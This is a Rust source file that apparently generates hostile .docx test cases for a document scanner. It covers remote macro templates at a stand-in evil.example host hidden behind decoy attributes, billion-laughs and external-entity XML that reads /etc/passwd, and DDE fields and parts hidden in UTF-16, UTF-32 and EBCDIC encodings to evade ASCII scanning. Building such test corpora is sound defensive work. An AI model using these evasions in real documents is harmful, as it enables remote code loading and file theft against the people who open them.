//! Parts that say another thing to Word than to who looks at them lightly.

use super::{
    Docx, MAIN, OFFICE,
    attacks::{DDE, part},
    document, types,
};
use crate::corpus::zip::Entry;

/// Attributes that another may be taken for.
pub(super) fn disguised() -> Vec<(&'static str, Docx)> {
    let template = format!(
        "Type=\"{OFFICE}/attachedTemplate\" Target=\"https://evil.example/a.dotm\" TargetMode=\"External\""
    );
    let lead = |decoy: &str| {
        let part = format!("<Relationships><Relationship Id=\"r1\" {decoy} {template}/></Relationships>");
        Docx::new().instead("word/_rels/document.xml.rels", &part)
    };
    let macros = MAIN.replace("document.main", "document.macroEnabled.main");
    let declare = |decoy: &str| {
        let more = format!("<Override {decoy} PartName=\"/word/a.xml\" ContentType=\"{macros}\"/>");
        Docx::new().instead("[Content_Types].xml", &types(MAIN, &more))
    };
    vec![
        (
            "template elsewhere behind prefixes",
            lead("xmlns:Type=\"a/image\" xmlns:Target=\"media/a.png\" xmlns:TargetMode=\"Internal\""),
        ),
        (
            "template elsewhere behind other attributes",
            lead("xmlns:x=\"x\" x:Type=\"a/image\" x:Target=\"media/a.png\" x:TargetMode=\"Internal\""),
        ),
        (
            "template elsewhere behind the same attributes",
            lead("Type=\"a/image\" Target=\"media/a.png\" TargetMode=\"Internal\""),
        ),
        ("type with macros behind a prefix", declare("xmlns:ContentType=\"image/png\"")),
        ("type with macros behind another", declare("xmlns:x=\"x\" x:ContentType=\"image/png\"")),
    ]
}

pub(super) fn xml() -> Vec<(&'static str, Docx)> {
    let laughs: String =
        (1..10).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
    let laughs = format!("<!DOCTYPE d [<!ENTITY l0 \"lol\">{laughs}]>{}", document("&l9;"));
    let external = format!("<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>{}", document("&x;"));
    let elsewhere = b"<?xml version='1.0'?><!DOCTYPE d []><d/>";
    let related = "<!DOCTYPE d [<!ENTITY x 'y'>]><d/>";
    vec![
        ("billion laughs", part(&laughs)),
        ("entity from a file", part(&external)),
        ("document type", part("<!DOCTYPE d SYSTEM \"https://evil.example/d.dtd\"><d/>")),
        ("document type in its relationships", Docx::new().instead("_rels/.rels", related)),
        ("document type in another part", Docx::new().with(Entry::deflated("word/a.dat", elsewhere))),
        ("unknown entity", part(&document("&unknown;"))),
        ("other encoding", part("<?xml version=\"1.0\" encoding=\"UTF-7\"?><d/>")),
        ("element without end", part("<w:document><w:body>")),
        ("depth", part(&"<a>".repeat(200_000))),
    ]
}

/// Parts that Word reads as text, in codes that hide it from who looks for ASCII.
pub(super) fn wide() -> Vec<(&'static str, Docx)> {
    let little = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let big = |text: &str| text.encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<u8>>();
    let wider = |text: &str| text.chars().flat_map(|c| u32::from(c).to_be_bytes()).collect::<Vec<u8>>();
    let added = |name: &str, content: &[u8]| Docx::new().with(Entry::deflated(name, content));
    let header = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml";
    let typed = |declaration: &str, content: &[u8]| {
        let declaration = declaration.replace("{header}", header);
        added("word/a.dat", content).instead("[Content_Types].xml", &types(MAIN, &declaration))
    };
    let each = "<Override PartName=\"/word/a.dat\" ContentType=\"{header}\"/>";
    let escaped = "<Override PartName=\"/word/%61.dat\" ContentType=\"{header}\"/>";
    let all = "<Default Extension=\"DAT\" ContentType=\"{header}; charset=utf-16\"/>";
    let xml = "<w:hdr/>";
    let later = "\u{feff}\n \t<w:hdr/>";
    // "<a/>" in the code of mainframes.
    let foreign = b"\x4c\x81\x61\x6e";
    vec![
        ("wide characters", added("word/wide.xml", &little("\u{feff}<a/>"))),
        ("wide characters without a mark", added("word/a.xml", &big("<!DOCTYPE a []><a/>"))),
        ("wide characters under another name", added("word/a.dat", &big(xml))),
        ("wide characters behind space", added("word/a.dat", &little(later))),
        ("wider characters", added("word/a.dat", &wider(later))),
        ("part of the code of mainframes", typed(each, foreign)),
        ("part of the code of mainframes by its name's end", typed(all, foreign)),
        ("part of the code of mainframes by an escaped name", typed(escaped, foreign)),
        ("wide characters by its name's end", typed(all, &big(xml))),
        ("wide characters behind space by its name's end", typed(all, &little(later))),
        ("field in a part named like relationships", added("word/a.rels", document(DDE).as_bytes())),
        ("field in a part by its name's end", typed(all, document(DDE).as_bytes())),
    ]
}
